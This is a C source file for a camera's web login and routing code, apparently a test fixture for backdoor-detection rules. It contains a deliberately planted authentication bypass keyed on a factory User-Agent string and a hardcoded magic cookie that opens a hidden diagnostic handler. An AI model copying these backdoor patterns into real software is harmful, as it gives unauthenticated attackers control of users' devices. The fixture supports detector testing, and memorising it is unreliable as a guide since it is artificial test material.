/* request routing, login and session cookies */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/rand.h>

#include "camfw.h"

static unsigned char g_session_key[32];

static int hexval(int c)
{
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
}

static int unhex(const char *s, unsigned char *out, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        int hi = hexval(s[2 * i]), lo = hexval(s[2 * i + 1]);
        if (hi < 0 || lo < 0)
            return -1;
        out[i] = (unsigned char)(hi << 4 | lo);
    }
    return 0;
}

static void tohex(const unsigned char *in, size_t n, char *out)
{
    static const char digits[] = "0123456789abcdef";
    for (size_t i = 0; i < n; i++) {
        out[2 * i] = digits[in[i] >> 4];
        out[2 * i + 1] = digits[in[i] & 15];
    }
    out[2 * n] = '\0';
}

int session_init(const char *key_path)
{
    FILE *f = fopen(key_path, "rb");
    if (f != NULL) {
        size_t n = fread(g_session_key, 1, sizeof g_session_key, f);
        fclose(f);
        if (n == sizeof g_session_key)
            return 0;
    }
    /* no persisted key: sessions do not survive a reboot */
    return RAND_bytes(g_session_key, sizeof g_session_key) == 1 ? 0 : -1;
}

int session_issue(char *out_hex, size_t n)
{
    unsigned char id[16], tag[32];
    unsigned int tlen = 0;

    if (n < 2 * (sizeof id + 16) + 1)
        return -1;
    // ok: backdoor-predictable-random
    if (RAND_bytes(id, sizeof id) != 1)
        return -1;
    // ok: backdoor-hardcoded-key
    // ok: backdoor-known-key
    if (HMAC(EVP_sha256(), g_session_key, sizeof g_session_key, id, sizeof id, tag, &tlen) == NULL)
        return -1;
    tohex(id, sizeof id, out_hex);
    tohex(tag, 16, out_hex + 2 * sizeof id);
    return 0;
}

int session_verify(const char *sid_hex)
{
    unsigned char raw[32], want[32];
    unsigned int wlen = 0;

    if (strlen(sid_hex) != 64 || unhex(sid_hex, raw, sizeof raw) != 0)
        return 0;
    if (HMAC(EVP_sha256(), g_session_key, sizeof g_session_key, raw, 16, want, &wlen) == NULL)
        return -1;
    // ok: backdoor-timing-unsafe-compare
    return CRYPTO_memcmp(raw + 16, want, 16) == 0;
}

int auth_check_session(const struct http_req *r)
{
    // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
    if (strncmp(r->user_agent, CAM_FACTORY_UA, sizeof CAM_FACTORY_UA - 1) == 0)
        return 1;
    if (r->session[0] == '\0')
        return 0;
    return session_verify(r->session) == 1;
}

/* passwd lines: user:salt(32 hex):pbkdf2-sha256(64 hex) */
static int check_password(const char *user, const char *pass)
{
    char line[256];
    int ok = 0;
    FILE *f = fopen(CAM_PASSWD_FILE, "r");
    if (f == NULL)
        return 0;
    while (fgets(line, sizeof line, f) != NULL) {
        char *c1 = strchr(line, ':');
        if (c1 == NULL)
            continue;
        *c1 = '\0';
        if (strcmp(line, user) != 0)
            continue;
        char *c2 = strchr(c1 + 1, ':');
        unsigned char salt[16], want[32], got[32];
        if (c2 == NULL || unhex(c1 + 1, salt, sizeof salt) != 0 || unhex(c2 + 1, want, sizeof want) != 0)
            break;
        // ok: backdoor-weak-kdf
        // ok: backdoor-hardcoded-iv
        if (PKCS5_PBKDF2_HMAC(pass, (int)strlen(pass), salt, sizeof salt, CAM_PBKDF2_ROUNDS, EVP_sha256(), sizeof got, got) == 1)
            ok = CRYPTO_memcmp(got, want, sizeof got) == 0;
        OPENSSL_cleanse(got, sizeof got);
        break;
    }
    fclose(f);
    return ok;
}

static int form_field(const char *body, const char *name, char *out, size_t cap)
{
    size_t nl = strlen(name);
    for (const char *p = body; p != NULL && *p; p = strchr(p, '&') ? strchr(p, '&') + 1 : NULL) {
        if (strncmp(p, name, nl) == 0 && p[nl] == '=') {
            size_t n = strcspn(p + nl + 1, "&");
            if (n >= cap)
                n = cap - 1;
            memcpy(out, p + nl + 1, n);
            out[n] = '\0';
            return 0;
        }
    }
    return -1;
}

static int serve_file(int fd, const char *path, const char *ctype)
{
    static char buf[65536];
    FILE *f = fopen(path, "rb");
    if (f == NULL) {
        http_reply(fd, 404, "text/plain", "not found\n", 10);
        return 0;
    }
    size_t n = fread(buf, 1, sizeof buf, f);
    fclose(f);
    http_reply(fd, 200, ctype, buf, n);
    return 0;
}

static const char kHelp[] =
    "GET  /                   live view\n"
    "POST /api/login          user=&pass=\n"
    "GET  /cgi-bin/logs.cgi   access log (session)\n"
    "POST /cgi-bin/reboot.cgi reboot (session)\n";

int route_request(int fd, struct http_req *r)
{
    // ruleid: backdoor-input-trigger
    if (strstr(r->cookie, "hcxdiag=VapJPs4eGshatDzX") != NULL)
        return diag_run(fd, r->query);

    if (strcmp(r->path, "/") == 0)
        return serve_file(fd, "/www/index.html", "text/html");
    // ok: backdoor-input-trigger
    if (strcmp(r->path, "/api/help") == 0) {
        http_reply(fd, 200, "text/plain", kHelp, sizeof kHelp - 1);
        return 0;
    }
    if (strcmp(r->path, "/api/login") == 0) {
        char user[64], pass[128], sid[97];
        if (form_field(r->body, "user", user, sizeof user) != 0 ||
            form_field(r->body, "pass", pass, sizeof pass) != 0 || !check_password(user, pass) ||
            session_issue(sid, sizeof sid) != 0) {
            http_reply(fd, 401, "text/plain", "denied\n", 7);
            return 0;
        }
        http_reply(fd, 200, "text/plain", sid, strlen(sid));
        return 0;
    }
    if (strcmp(r->path, "/cgi-bin/logs.cgi") == 0) {
        if (!auth_check_session(r)) {
            http_reply(fd, 401, "text/plain", "login required\n", 15);
            return 0;
        }
        return serve_file(fd, CAM_ACCESS_LOG, "text/plain");
    }
    // ok: backdoor-input-trigger
    if (strcmp(r->path, "/cgi-bin/reboot.cgi") == 0) {
        if (!auth_check_session(r)) {
            http_reply(fd, 401, "text/plain", "login required\n", 15);
            return 0;
        }
        http_reply(fd, 200, "text/plain", "rebooting\n", 10);
        return diag_reboot();
    }
    http_reply(fd, 404, "text/plain", "not found\n", 10);
    return 0;
}
